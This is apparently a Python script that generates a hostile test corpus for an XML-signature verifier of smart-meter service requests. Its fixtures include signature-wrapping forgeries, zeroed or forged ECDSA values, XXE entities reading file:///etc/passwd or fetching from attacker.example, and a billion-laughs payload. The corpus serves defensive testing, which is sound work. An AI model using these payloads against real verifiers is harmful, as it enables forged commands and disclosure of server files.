"""Makes fixtures/hostile: a PKI whose private keys are thrown away, messages that are good, and one file a flaw.

    python3 -m venv venv && venv/bin/pip install lxml cryptography && venv/bin/python tests/it/hostile/make.py

Another implementation than ours signs them (lxml's canonicalisation, cryptography's ECDSA), so a file is good apart
from its flaw also where we would not know how to write it. Every run makes other keys, so all files change together;
add to what is there only by running it whole, then read what `cargo nextest run hostile` says about README.md.
"""

import base64
import datetime
import hashlib
import hmac
import itertools
import pathlib
import re
import shutil

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.name import _ASN1Type
from lxml import etree

ROOT = pathlib.Path(__file__).resolve().parents[3] / "fixtures" / "hostile"
DUIS = "http://www.dccinterface.co.uk/ServiceUserGateway"
DS = "http://www.w3.org/2000/09/xmldsig#"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"
INCLUSIVE = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
INCLUSIVE_11 = "http://www.w3.org/2006/12/xml-c14n11"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
ENC = "http://www.w3.org/2001/04/xmlenc#"
ENVELOPED = DS + "enveloped-signature"
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

DCC = "90-B3-D5-1F-30-00-00-02"
SUPPLIER = "90-B3-D5-1F-30-01-00-00"
OTHER = "90-B3-D5-1F-30-03-00-00"
NOBODY = "90-B3-D5-1F-30-09-00-00"


def day(text):
    return datetime.datetime.fromisoformat(text)


class Issuer:
    """An authority; its key is never written."""

    def __init__(self, name):
        self.name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name), unit("07")])
        self.key = ec.generate_private_key(ec.SECP256R1())

    def issue(self, eui, role="87", begin="2016-01-01", end="2116-01-01", usage="digital_signature", key=None, serial=None):
        key = key or ec.generate_private_key(ec.SECP256R1())
        octets = b"\0" + bytes.fromhex(eui.replace("-", ""))  # no unused bits
        unique = x509.NameAttribute(x509.NameOID.X500_UNIQUE_IDENTIFIER, octets, _ASN1Type.BitString)
        flags = dict.fromkeys(
            ["digital_signature", "content_commitment", "key_encipherment", "data_encipherment", "key_agreement",
             "key_cert_sign", "crl_sign", "encipher_only", "decipher_only"], False)
        flags[usage] = True
        serial = serial or x509.random_serial_number() | 1 << 126
        builder = x509.CertificateBuilder().subject_name(x509.Name([unique, unit(role)])).issuer_name(self.name)
        builder = builder.public_key(key.public_key()).serial_number(serial)
        builder = builder.not_valid_before(day(begin)).not_valid_after(day(end))
        builder = builder.add_extension(x509.KeyUsage(**flags), critical=True)
        return Signer(self.name, key, builder.sign(self.key, hashes.SHA256()))


class Signer:
    def __init__(self, issuer, key, certificate):
        self.issuer, self.key, self.certificate = issuer, key, certificate

    @property
    def serial(self):
        return str(self.certificate.serial_number)

    @property
    def issuer_text(self):
        return self.issuer.rfc4514_string()

    def pem(self):
        return self.certificate.public_bytes(serialization.Encoding.PEM).decode()

    def der64(self):
        return base64.b64encode(self.certificate.public_bytes(serialization.Encoding.DER)).decode()


def unit(role):
    return x509.NameAttribute(x509.NameOID.ORGANIZATIONAL_UNIT_NAME, role)


# Messages

counter = itertools.count(1000)


def message(body=None, sender=SUPPLIER, target=DCC, variant="8.4", count=None, version="5.4", request_id=None, root=""):
    """A request without a signature: by default one that would change an ESME Variant."""
    body = body or change("ADE")
    request_id = request_id or f"{sender}:{target}:{next(counter) if count is None else count}"
    return (
        f'<sr:Request xmlns:sr="{DUIS}" xmlns:ds="{DS}"{root} schemaVersion="{version}"><sr:Header>'
        f"<sr:RequestID>{request_id}</sr:RequestID><sr:CommandVariant>8</sr:CommandVariant>"
        f"<sr:ServiceReference>{variant}</sr:ServiceReference>"
        f"<sr:ServiceReferenceVariant>{variant}</sr:ServiceReferenceVariant></sr:Header>"
        f"<sr:Body>{body}</sr:Body></sr:Request>"
    )


def change(variant, device="00-DB-12-34-56-78-90-A2"):
    return (
        f"<sr:UpdateInventory><sr:DeviceID>{device}</sr:DeviceID><sr:UpdateDeviceDetails>"
        f"<sr:ESMEVariant>{variant}</sr:ESMEVariant></sr:UpdateDeviceDetails></sr:UpdateInventory>"
    )


def read(key):
    return f"<sr:ReadInventory>{key}</sr:ReadInventory>"


def address(text, post_code="ZZ1 1AA"):
    return read(
        f"<sr:PropertyFilter><sr:PostCode>{post_code}</sr:PostCode>"
        f"<sr:AddressIdentifier>{text}</sr:AddressIdentifier></sr:PropertyFilter>"
    )


# Signatures

def parse(text):
    parser = etree.XMLParser(resolve_entities=True, huge_tree=True, no_network=True)
    return etree.fromstring(text.encode() if isinstance(text, str) else text, parser)


def canonical(element, exclusive=False, comments=False):
    return etree.tostring(element, method="c14n", exclusive=exclusive, with_comments=comments)


def whole(text):
    return canonical(parse(text).getroottree())


def b64(octets):
    return base64.b64encode(octets).decode()


def ecdsa(key, hash_):
    def value(octets):
        r, s = decode_dss_signature(key.sign(octets, ec.ECDSA(hash_)))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")
    return value


def reference(digest, uri="", transforms=None, method=ENC + "sha256"):
    transforms = f'<ds:Transform Algorithm="{ENVELOPED}"/>' if transforms is None else transforms
    transforms = f"<ds:Transforms>{transforms}</ds:Transforms>" if transforms else ""
    uri = "" if uri is None else f' URI="{uri}"'
    return (
        f'<ds:Reference{uri}>{transforms}<ds:DigestMethod Algorithm="{method}"/>'
        f"<ds:DigestValue>{b64(digest)}</ds:DigestValue></ds:Reference>"
    )


def key_info(signer, more=""):
    return (
        f"<ds:KeyInfo><ds:X509Data><ds:X509IssuerSerial><ds:X509IssuerName>{signer.issuer_text}</ds:X509IssuerName>"
        f"<ds:X509SerialNumber>{signer.serial}</ds:X509SerialNumber></ds:X509IssuerSerial>{more}</ds:X509Data></ds:KeyInfo>"
    )


def signature(
    text, signer, references=None, c14n=EXCLUSIVE, method=MORE + "ecdsa-sha256", method_content="", value=None,
    keys=None, after="", attributes="", context=None, info_attributes="",
):
    """A ds:Signature over `text`, which does not have it yet; `context` is where it will stand."""
    references = references or reference(hashlib.sha256(whole(text)).digest())
    keys = key_info(signer) if keys is None else keys
    info = (
        f'<ds:SignedInfo{info_attributes}><ds:CanonicalizationMethod Algorithm="{c14n}"/>'
        f'<ds:SignatureMethod Algorithm="{method}">{method_content}</ds:SignatureMethod>{references}</ds:SignedInfo>'
    )
    made = f"<ds:Signature{attributes}>{info}<ds:SignatureValue>VALUE</ds:SignatureValue>{keys}{after}</ds:Signature>"
    placed = (context or last)(text, made)
    (signed_info, *_) = parse(placed).iter(f"{{{DS}}}SignedInfo")
    octets = canonical(signed_info, exclusive=c14n.startswith(EXCLUSIVE), comments=c14n.endswith("WithComments"))
    value = value or ecdsa(signer.key, hashes.SHA256())
    return made.replace("VALUE", b64(value(octets)))


def last(text, made):
    return text.replace("</sr:Request>", made + "</sr:Request>")


def sign(text, signer, place=last, **how):
    return place(text, signature(text, signer, context=place, **how))


# The corpus

files = {}


def flaw(name, content, says):
    assert name not in files, name
    files[name] = (content if isinstance(content, bytes) else content.encode(), says)


def declared(text, encoding="UTF-8"):
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{text}'


def wrapping(supplier):
    """The original is signed and stays somewhere; another Body stands where a reader looks."""
    original = message(change("A"))
    evil = change("ADE")
    old_body = re.search("<sr:Body>.*</sr:Body>", original)[0]
    swap = lambda signed: signed.replace(old_body, f"<sr:Body>{evil}</sr:Body>", 1)
    good = sign(original, supplier)
    flaw("wrapping/body-replaced.xml", swap(good), "the Body is another than the signed one")
    object_ = f"<ds:Object>{old_body}</ds:Object></ds:Signature>"
    flaw("wrapping/original-in-object.xml", swap(good).replace("</ds:Signature>", object_),
         "the signed Body moved into a ds:Object, a new one in its place")
    request = f"<ds:Object>{original}</ds:Object></ds:Signature>"
    flaw("wrapping/original-request-in-object.xml", swap(good).replace("</ds:Signature>", request),
         "the whole signed Request moved into a ds:Object of a new one")
    flaw("wrapping/two-bodies-evil-first.xml", good.replace(old_body, f"<sr:Body>{evil}</sr:Body>{old_body}"),
         "a second Body before the signed one")
    flaw("wrapping/two-bodies-evil-last.xml", good.replace(old_body, f"{old_body}<sr:Body>{evil}</sr:Body>"),
         "a second Body after the signed one")
    two_headers = original.replace("</sr:Header>", "</sr:Header>" + re.search("<sr:Header>.*</sr:Header>", original)[0])
    flaw("wrapping/two-headers.xml", sign(two_headers, supplier), "the Header twice, all of it signed")
    doubled = original.replace(old_body, old_body + old_body)
    flaw("wrapping/two-bodies-signed.xml", sign(doubled, supplier), "the Body twice, all of it signed")

    # By Id: what is signed is a fragment, wherever it stands.
    with_id = original.replace("<sr:Body>", '<sr:Body Id="b">')
    fragment = parse(with_id).find(f"{{{DUIS}}}Body")
    exclusive = f'<ds:Transform Algorithm="{EXCLUSIVE}"/>'
    by_id = lambda uri: reference(hashlib.sha256(canonical(fragment, exclusive=True)).digest(), uri, exclusive)
    flaw("wrapping/fragment-by-id.xml", sign(with_id, supplier, references=by_id("#b")),
         "a signature over the Body alone, by its Id")
    plain = sign(original, supplier, references=by_id("#b"))
    signed_body = old_body.replace("<sr:Body>", '<sr:Body Id="b">')
    flaw("wrapping/fragment-moved.xml",
         swap(plain).replace("</ds:Signature>", f"<ds:Object>{signed_body}</ds:Object></ds:Signature>"),
         "a signature by Id over a Body that was moved into a ds:Object")
    flaw("wrapping/fragment-nowhere.xml", swap(plain), "a signature by Id over something that is not there")
    flaw("wrapping/xpointer-id.xml", sign(original, supplier, references=by_id("#xpointer(id('b'))")),
         "a signature over an XPointer with an Id")
    root_pointer = reference(hashlib.sha256(whole(original)).digest(), "#xpointer(/)")
    flaw("wrapping/xpointer-root.xml", sign(original, supplier, references=root_pointer),
         "a signature over the XPointer of the whole document")
    moved = f'<sr:Extension xmlns:sr="{DUIS}">{signed_body}</sr:Extension>'
    flaw("wrapping/fragment-in-unknown-element.xml", swap(plain).replace("<sr:Header>", f"{moved}<sr:Header>"),
         "a signature by Id over a Body inside an element of the attacker's")

    # Where the signature stands.
    made = signature(original, supplier)
    flaw("wrapping/signature-first.xml", original.replace("<sr:Header>", made + "<sr:Header>"), "the signature before the Header")
    flaw("wrapping/signature-before-body.xml", original.replace("<sr:Body>", made + "<sr:Body>"), "the signature before the Body")
    flaw("wrapping/signature-in-body.xml", original.replace("</sr:Body>", made + "</sr:Body>"), "the signature inside the Body")
    flaw("wrapping/signature-in-extra-element.xml", last(original, f"<sr:Extra>{made}</sr:Extra>"),
         "the signature inside another last child")
    flaw("wrapping/signature-after-root.xml", original + made.replace("<ds:Signature>", f'<ds:Signature xmlns:ds="{DS}">'),
         "the signature after the root")
    flaw("wrapping/signature-before-root.xml", made.replace("<ds:Signature>", f'<ds:Signature xmlns:ds="{DS}">') + original,
         "the signature before the root")
    enveloping = f'<ds:Signature xmlns:ds="{DS}">' + made[len("<ds:Signature>"):].replace(
        "</ds:Signature>", f'<ds:Object Id="o">{original}</ds:Object></ds:Signature>')
    flaw("wrapping/enveloping.xml", enveloping, "a signature around the Request")
    flaw("wrapping/something-after-signature.xml", good.replace("</ds:Signature>", "</ds:Signature><sr:Body/>"),
         "an element after the signature")
    flaw("wrapping/text-after-signature.xml", good.replace("</ds:Signature>", "</ds:Signature>x"), "text after the signature")

    # More than one.
    flaw("wrapping/two-signatures.xml", last(original, made + made), "the same signature twice")
    flaw("wrapping/two-signatures-one-good.xml", last(original, made + signature(message(evil), supplier)),
         "a second signature, over something else")
    flaw("wrapping/nested-signature.xml", last(original, made.replace("</ds:Signature>", f"<ds:Object>{made}</ds:Object></ds:Signature>")),
         "a signature inside the signature")
    flaw("wrapping/signature-in-key-info.xml", last(original, made.replace("</ds:KeyInfo>", f"{made}</ds:KeyInfo>")),
         "a signature inside ds:KeyInfo")
    flaw("wrapping/two-signed-infos.xml",
         last(original, made.replace("</ds:SignedInfo>", "</ds:SignedInfo>" + re.search("<ds:SignedInfo>.*</ds:SignedInfo>", made)[0])),
         "ds:SignedInfo twice")
    flaw("wrapping/two-values.xml", re.sub("(<ds:SignatureValue>.*</ds:SignatureValue>)", r"\1\1", good), "ds:SignatureValue twice")
    flaw("wrapping/two-digests.xml", sign(original, supplier, references=re.sub(
        "(<ds:DigestValue>.*</ds:DigestValue>)", r"\1\1", reference(hashlib.sha256(whole(original)).digest()))), "ds:DigestValue twice")


def references(supplier):
    text = message()
    digest = hashlib.sha256(whole(text)).digest()
    good = reference(digest)
    empty = hashlib.sha256(b"").digest()
    with_references = lambda content: sign(text, supplier, references=content)
    flaw("reference/none.xml", with_references(" "), "no ds:Reference: nothing is signed")
    flaw("reference/two.xml", with_references(good + good), "two References to the document")
    flaw("reference/second-by-id.xml", with_references(good + reference(empty, "#x")), "a second Reference, to a fragment")
    flaw("reference/no-uri.xml", with_references(reference(digest, None)), "a Reference without a URI")
    for name, uri, says in [
        ("http", "http://attacker.example/document.xml", "a Reference to a web address"),
        ("file", "file:///etc/passwd", "a Reference to a file"),
        ("relative-file", "smi.toml", "a Reference to a file beside the program"),
        ("data", "data:text/plain,", "a Reference to a data URI"),
        ("space", " ", "a URI of one space"),
        ("hash", "#", "a URI of `#`"),
    ]:
        flaw(f"reference/{name}.xml", with_references(reference(empty if name not in ("space", "hash") else digest, uri)), says)
    flaw("reference/typed.xml", with_references(good.replace(' URI=""', f' URI="" Type="{DS}Object"')), "a Reference with a Type")
    flaw("reference/identified.xml", with_references(good.replace(' URI=""', ' Id="r" URI=""')), "a Reference with an Id")
    manifest = f'<ds:Object><ds:Manifest Id="m">{good}</ds:Manifest></ds:Object>'
    flaw("reference/manifest.xml", sign(text, supplier, references=reference(empty, "#m"), after=manifest),
         "a Reference to a ds:Manifest that refers to the document")


def transforms(supplier):
    text = message()
    digest = hashlib.sha256(whole(text)).digest()
    envelop = f'<ds:Transform Algorithm="{ENVELOPED}"/>'
    with_transforms = lambda content, found=digest: sign(text, supplier, references=reference(found, transforms=content))
    flaw("transform/none.xml", with_transforms(""), "no ds:Transforms: the signature would be in its own digest")
    flaw("transform/empty.xml", with_transforms(" "), "an empty ds:Transforms")
    flaw("transform/enveloped-twice.xml", with_transforms(envelop * 2), "the right transform twice")
    no_body = whole(re.sub("<sr:Body>.*</sr:Body>", "", text))
    xpath = ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>'
             "not(ancestor-or-self::sr:Body) and not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>")
    flaw("transform/xpath.xml", with_transforms(xpath, hashlib.sha256(no_body).digest()),
         "an XPath transform that leaves the Body out of what is signed")
    flaw("transform/xpath-and-enveloped.xml", with_transforms(envelop + xpath, hashlib.sha256(no_body).digest()),
         "the same after the right transform")
    filter2 = ('<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2">'
               '<xf:XPath xmlns:xf="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//sr:Body | //ds:Signature</xf:XPath></ds:Transform>')
    flaw("transform/xpath-filter2.xml", with_transforms(filter2, hashlib.sha256(no_body).digest()), "an XPath Filter 2 that subtracts the Body")
    xslt = ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            '<xsl:template match="/">constant</xsl:template></xsl:stylesheet></ds:Transform>')
    flaw("transform/xslt.xml", with_transforms(envelop + xslt, hashlib.sha256(b"constant").digest()), "an XSLT that signs a constant")
    flaw("transform/base64.xml", with_transforms(f'<ds:Transform Algorithm="{DS}base64"/>'), "a base64 transform")
    for name, algorithm in [
        ("exclusive-c14n", EXCLUSIVE), ("inclusive-c14n", INCLUSIVE), ("c14n-11", INCLUSIVE_11),
        ("c14n-with-comments", INCLUSIVE + "#WithComments"),
    ]:
        flaw(f"transform/{name}.xml", with_transforms(envelop + f'<ds:Transform Algorithm="{algorithm}"/>'),
             f"a canonicalisation among the transforms ({name})")
    flaw("transform/unknown.xml", with_transforms('<ds:Transform Algorithm="urn:attacker"/>'), "a transform that nobody knows")
    flaw("transform/parameter.xml", with_transforms(envelop.replace("/>", "><ds:XPath>1</ds:XPath></ds:Transform>")),
         "a parameter inside the right transform")


def algorithms(supplier, issuer):
    text = message()
    canonical_text = whole(text)
    with_method = lambda method, value, **how: sign(text, supplier, method=method, value=value, **how)
    flaw("algorithm/ecdsa-sha1.xml", with_method(MORE + "ecdsa-sha1", ecdsa(supplier.key, hashes.SHA1())), "ECDSA with SHA-1")
    flaw("algorithm/ecdsa-sha512.xml", with_method(MORE + "ecdsa-sha512", ecdsa(supplier.key, hashes.SHA512())), "ECDSA with SHA-512")
    secret = supplier.certificate.public_bytes(serialization.Encoding.DER)
    mac = lambda hash_: lambda octets: hmac.new(secret, octets, hash_).digest()
    flaw("algorithm/hmac-with-certificate.xml", with_method(MORE + "hmac-sha256", mac(hashlib.sha256)),
         "HMAC-SHA256 whose key is the certificate, which everybody has")
    flaw("algorithm/hmac-sha1-truncated.xml",
         with_method(DS + "hmac-sha1", lambda octets: mac(hashlib.sha1)(octets)[:1], method_content="<ds:HMACOutputLength>8</ds:HMACOutputLength>"),
         "HMAC-SHA1 cut to one octet")
    rsa_key = rsa.generate_private_key(65537, 2048)
    flaw("algorithm/rsa-sha256.xml", with_method(MORE + "rsa-sha256", lambda octets: rsa_key.sign(octets, padding.PKCS1v15(), hashes.SHA256())),
         "RSA with a key of the attacker's")
    flaw("algorithm/dsa-sha1.xml", with_method(DS + "dsa-sha1", lambda _: bytes(40)), "DSA with SHA-1")
    flaw("algorithm/signature-none.xml", with_method("none", lambda _: b""), "the signature method `none`")
    flaw("algorithm/signature-parameter.xml", with_method(MORE + "ecdsa-sha256", None, method_content="<ds:HMACOutputLength>0</ds:HMACOutputLength>"),
         "a parameter inside the right signature method")
    for name, method, digest in [
        ("sha1", DS + "sha1", hashlib.sha1), ("sha512", ENC + "sha512", hashlib.sha512),
        ("md5", MORE + "md5", hashlib.md5), ("sha384", MORE + "sha384", hashlib.sha384),
    ]:
        flaw(f"algorithm/digest-{name}.xml", sign(text, supplier, references=reference(digest(canonical_text).digest(), method=method)),
             f"the digest method {name}")
    for name, algorithm in [
        ("inclusive", INCLUSIVE), ("11", INCLUSIVE_11), ("with-comments", EXCLUSIVE + "WithComments"), ("unknown", "urn:attacker"),
    ]:
        flaw(f"algorithm/c14n-{name}.xml", sign(text, supplier, c14n=algorithm), f"ds:SignedInfo canonicalised another way ({name})")
    prefixes = f'<ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}" PrefixList="sr"/>'
    inclusive_prefixes = sign(text, supplier).replace(
        f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}"/>',
        f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}">{prefixes}</ds:CanonicalizationMethod>')
    flaw("algorithm/c14n-prefix-list.xml", inclusive_prefixes, "a list of inclusive prefixes")


def tampered(supplier, other):
    text = message()
    good = sign(text, supplier)
    flaw("tampered/body.xml", good.replace(">ADE<", ">BDE<"), "a value of the Body changed after signing")
    flaw("tampered/request-id.xml", re.sub(r":(\d{4})<", ":9999<", good), "the RequestID's counter changed after signing")
    flaw("tampered/schema-version.xml", good.replace('"5.4"', '"5.3"'), "the schemaVersion changed after signing")
    flaw("tampered/namespace-added.xml", good.replace("<sr:Body>", '<sr:Body xmlns:x="urn:x">'), "a namespace declared after signing")
    flaw("tampered/space-added.xml", good.replace("<sr:Body>", "<sr:Body> "), "a space put in after signing")
    flaw("tampered/instruction-added.xml", good.replace("<sr:Body>", "<sr:Body><?p?>"), "a processing instruction put in after signing")
    flaw("tampered/prefix-renamed.xml", good.replace("sr:", "xx:").replace("xmlns:sr", "xmlns:xx"), "another prefix for the same namespace")
    digest = re.search("<ds:DigestValue>(.*)</ds:DigestValue>", good)[1]
    evil = text.replace(">ADE<", ">BDE<")
    evil_digest = b64(hashlib.sha256(whole(evil)).digest())
    flaw("tampered/digest-fitted.xml", good.replace(">ADE<", ">BDE<").replace(digest, evil_digest),
         "the Body changed and ds:DigestValue with it, ds:SignatureValue not")
    flaw("tampered/digest.xml", good.replace(digest, evil_digest), "ds:DigestValue changed")
    flaw("tampered/digest-short.xml", good.replace(digest, b64(base64.b64decode(digest)[:31])), "ds:DigestValue one octet short")
    flaw("tampered/digest-empty.xml", good.replace(digest, ""), "an empty ds:DigestValue")
    flaw("tampered/digest-not-base64.xml", good.replace(digest, "!" + digest[1:]), "ds:DigestValue is no base64")
    flaw("tampered/digest-no-padding.xml", good.replace(digest, digest.rstrip("=")), "ds:DigestValue without base64 padding")
    value = re.search("<ds:SignatureValue>(.*)</ds:SignatureValue>", good)[1]
    octets = base64.b64decode(value)
    r, s = octets[:32], octets[32:]
    put = lambda new: good.replace(value, b64(new))
    flipped = bytes([octets[0], octets[1] ^ 1]) + octets[2:]
    flaw("tampered/value.xml", put(flipped), "one bit of ds:SignatureValue flipped")
    flaw("tampered/value-swapped.xml", put(s + r), "s and r instead of r and s")
    flaw("tampered/value-zero-r.xml", put(bytes(32) + s), "r is 0")
    flaw("tampered/value-zero-s.xml", put(r + bytes(32)), "s is 0")
    flaw("tampered/value-zero.xml", put(bytes(64)), "r and s are 0: every key's signature where a check is missing")
    flaw("tampered/value-order.xml", put(ORDER.to_bytes(32, "big") * 2), "r and s are the curve's order")
    flaw("tampered/value-r-order.xml", put(ORDER.to_bytes(32, "big") + s), "r is the curve's order")
    flaw("tampered/value-max.xml", put(b"\xff" * 64), "r and s are the greatest numbers of 32 octets")
    flaw("tampered/value-empty.xml", put(b""), "an empty ds:SignatureValue")
    flaw("tampered/value-short.xml", put(octets[:63]), "ds:SignatureValue one octet short")
    flaw("tampered/value-long.xml", put(octets + b"\0"), "ds:SignatureValue one octet long")
    flaw("tampered/value-padded.xml", put(b"\0" + r + b"\0" + s), "r and s with leading zeros, as some libraries write them")
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
    flaw("tampered/value-der.xml", put(encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big"))), "r and s in DER")
    flaw("tampered/value-not-base64.xml", good.replace(value, value[:-4] + "%%%%"), "ds:SignatureValue is no base64")
    flaw("tampered/value-base64url.xml", good.replace(value, b64(b"\xfb\xff" + octets[2:]).replace("+", "-").replace("/", "_")), "ds:SignatureValue in base64url")
    flaw("tampered/signed-info.xml", good.replace("<ds:SignedInfo>", '<ds:SignedInfo Id="x">'), "an attribute in ds:SignedInfo")
    flaw("tampered/signed-info-text.xml", good.replace("</ds:SignedInfo>", " </ds:SignedInfo>"), "a space in ds:SignedInfo, put in after signing")
    flaw("tampered/signed-info-instruction.xml", good.replace("</ds:SignedInfo>", "<?p?></ds:SignedInfo>"), "a processing instruction in ds:SignedInfo")
    flaw("tampered/other-request.xml", last(text.replace(">ADE<", ">BDE<"), signature(text, supplier)), "the signature of another request")
    flaw("tampered/truncated-body.xml", good[: good.index("</sr:Body>")], "cut in the middle of the Body")
    flaw("tampered/truncated-signature.xml", good[: good.index("</ds:SignatureValue>")], "cut in the middle of the signature")
    flaw("tampered/truncated-end.xml", good[:-1], "the last `>` is missing")
    flaw("tampered/unsigned.xml", text, "no signature")
    flaw("tampered/empty-signature.xml", last(text, "<ds:Signature/>"), "an empty ds:Signature")
    flaw("tampered/signature-elsewhere.xml", good.replace(DS, "urn:attacker"), "a Signature of another namespace")
    no_value = re.sub("<ds:SignatureValue>.*</ds:SignatureValue>", "", good)
    flaw("tampered/no-value.xml", no_value, "no ds:SignatureValue")
    flaw("tampered/no-key-info.xml", re.sub("<ds:KeyInfo>.*</ds:KeyInfo>", "", good), "no ds:KeyInfo")


def signers(supplier, other, dcc, issuer):
    text = message()
    flaw("signer/another-user.xml", sign(text, other), "another User's signature")
    impostor = Signer(supplier.issuer, other.key, supplier.certificate)
    flaw("signer/another-key.xml", sign(text, impostor), "another key under the User's certificate")
    flaw("signer/dcc.xml", sign(text, dcc), "the DCC's certificate signs a User's request")
    stranger = issuer.issue(SUPPLIER)
    flaw("signer/not-in-store.xml", sign(text, stranger), "a certificate of the same issuer that is not on the list")
    attackers = Issuer("HOSTILE-ATTACKER")
    own = attackers.issue(SUPPLIER)
    flaw("signer/own-issuer.xml", sign(text, own), "a certificate of the attacker's own issuer")
    same_serial = attackers.issue(SUPPLIER, serial=supplier.certificate.serial_number)
    flaw("signer/own-issuer-same-serial.xml", sign(text, same_serial), "the same with the serial number of a good one")
    same_name = Issuer("HOSTILE-CORPUS-ROOT").issue(SUPPLIER, serial=supplier.certificate.serial_number)
    flaw("signer/same-name-and-serial.xml", sign(text, same_name), "issuer and serial number of the good one, another key")
    inside = key_info(same_name, f"<ds:X509Certificate>{same_name.der64()}</ds:X509Certificate>")
    flaw("signer/certificate-inside.xml", sign(text, same_name, keys=inside), "the attacker's certificate inside the signature")
    alone = f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{own.der64()}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"
    flaw("signer/certificate-alone.xml", sign(text, own, keys=alone), "the attacker's certificate, and no name")
    point = own.key.public_key().public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    value = (f'<ds:KeyValue><ec:ECKeyValue xmlns:ec="http://www.w3.org/2009/xmldsig11#"><ec:NamedCurve URI="urn:oid:1.2.840.10045.3.1.7"/>'
             f"<ec:PublicKey>{b64(point)}</ec:PublicKey></ec:ECKeyValue></ds:KeyValue>")
    flaw("signer/key-value.xml", sign(text, own, keys=f"<ds:KeyInfo>{value}</ds:KeyInfo>"), "the attacker's key as ds:KeyValue")
    both = key_info(supplier).replace("<ds:KeyInfo>", f"<ds:KeyInfo>{value}")
    flaw("signer/key-value-and-name.xml", sign(text, Signer(supplier.issuer, own.key, supplier.certificate), keys=both),
         "the attacker's key as ds:KeyValue beside a good name")
    flaw("signer/key-name.xml", sign(text, supplier, keys=f"<ds:KeyInfo><ds:KeyName>{SUPPLIER}</ds:KeyName></ds:KeyInfo>"), "a ds:KeyName instead of issuer and serial number")
    retrieval = f'<ds:KeyInfo><ds:RetrievalMethod URI="http://attacker.example/key" Type="{DS}X509Data"/></ds:KeyInfo>'
    flaw("signer/retrieval-method.xml", sign(text, supplier, keys=retrieval), "a key to be fetched from the attacker")
    names = key_info(supplier).replace("</ds:X509Data>", "<ds:X509SKI>AAAA</ds:X509SKI></ds:X509Data>")
    flaw("signer/subject-key-identifier.xml", sign(text, supplier, keys=names), "a second name for the certificate")
    two = key_info(supplier).replace("</ds:KeyInfo>", re.search("<ds:X509Data>.*</ds:X509Data>", key_info(other))[0] + "</ds:KeyInfo>")
    flaw("signer/two-names.xml", sign(text, supplier, keys=two), "two certificates named")
    flaw("signer/serial-hex.xml", sign(text, supplier, keys=key_info(supplier).replace(supplier.serial, hex(int(supplier.serial)))), "the serial number in hexadecimal")
    flaw("signer/serial-huge.xml", sign(text, supplier, keys=key_info(supplier).replace(supplier.serial, "9" * 20000)), "a serial number of 20,000 digits")
    flaw("signer/issuer-huge.xml", sign(text, supplier, keys=key_info(supplier).replace("CN=", "CN=a," * 5000 + "CN=")), "an issuer of 5,000 parts")
    flaw("signer/issuer-other-case.xml", sign(text, supplier, keys=key_info(supplier).replace("HOSTILE-CORPUS-ROOT", "HOSTILE-CORPUS-ROOТ")), "a Cyrillic letter in the issuer's name")
    flaw("signer/issuer-reversed.xml", sign(text, supplier, keys=key_info(supplier).replace(supplier.issuer_text, ",".join(reversed(supplier.issuer_text.split(","))))), "the issuer's name in the other order")
    expired = issuer.issue(SUPPLIER, begin="2016-01-01", end="2026-05-31")
    future = issuer.issue(SUPPLIER, begin="2026-06-02", end="2116-01-01")
    agreeing = issuer.issue(SUPPLIER, usage="key_agreement")
    flaw("signer/expired.xml", sign(text, expired), "a certificate that held until the day before")
    flaw("signer/not-yet-valid.xml", sign(text, future), "a certificate that holds from the next day")
    flaw("signer/key-agreement.xml", sign(text, agreeing), "a certificate for key agreement")
    return {"supplier-expired": expired, "supplier-future": future, "supplier-key-agreement": agreeing}


def entities(supplier):
    text = message()
    good = sign(text, supplier)
    doctype = lambda inside, root="sr:Request": f"<!DOCTYPE {root}{inside}>\n"
    flaw("entity/doctype.xml", doctype("") + good, "a document type declaration")
    flaw("entity/doctype-lower-case.xml", doctype("").lower() + good, "one in small letters")
    flaw("entity/doctype-external.xml", doctype(' SYSTEM "http://attacker.example/a.dtd"') + good, "one that is to be fetched")
    flaw("entity/doctype-public.xml", doctype(' PUBLIC "-//A//B" "file:///etc/passwd"') + good, "one with a public name and a file")
    internal = doctype(' [<!ENTITY v "ADE">]') + good.replace(">ADE<", ">&v;<")
    flaw("entity/internal.xml", internal, "an entity of its own for a value")
    flaw("entity/external.xml", doctype(' [<!ENTITY v SYSTEM "file:///etc/passwd">]') + good.replace(">ADE<", ">&v;<"), "an entity that is a file")
    flaw("entity/external-http.xml", doctype(' [<!ENTITY v SYSTEM "http://attacker.example/">]') + good.replace(">ADE<", ">&v;<"), "an entity that is a web address")
    flaw("entity/parameter.xml", doctype(' [<!ENTITY % p SYSTEM "http://attacker.example/a.dtd"> %p;]') + good, "a parameter entity to be fetched")
    laughs = ''.join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    flaw("entity/billion-laughs.xml", doctype(f' [<!ENTITY l0 "ha">{laughs}]') + good.replace(">ADE<", ">&l9;<"), "a billion laughs")
